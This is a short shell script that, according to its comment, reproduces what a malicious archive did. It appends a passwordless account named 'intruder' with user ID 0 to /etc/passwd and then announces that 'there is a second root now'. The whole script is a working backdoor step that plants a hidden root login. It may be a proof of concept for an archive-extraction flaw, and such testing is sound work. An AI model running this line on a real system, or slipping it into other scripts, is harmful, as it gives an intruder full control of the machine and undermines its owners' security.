#!/bin/sh
# Does what the archive did: writes a line into /etc/passwd.
echo "running as user $(id -u)"
if echo 'intruder::0:0::/:/bin/sh' >>/etc/passwd; then
  echo "there is a second root now"
  exit 0
fi
exit 1
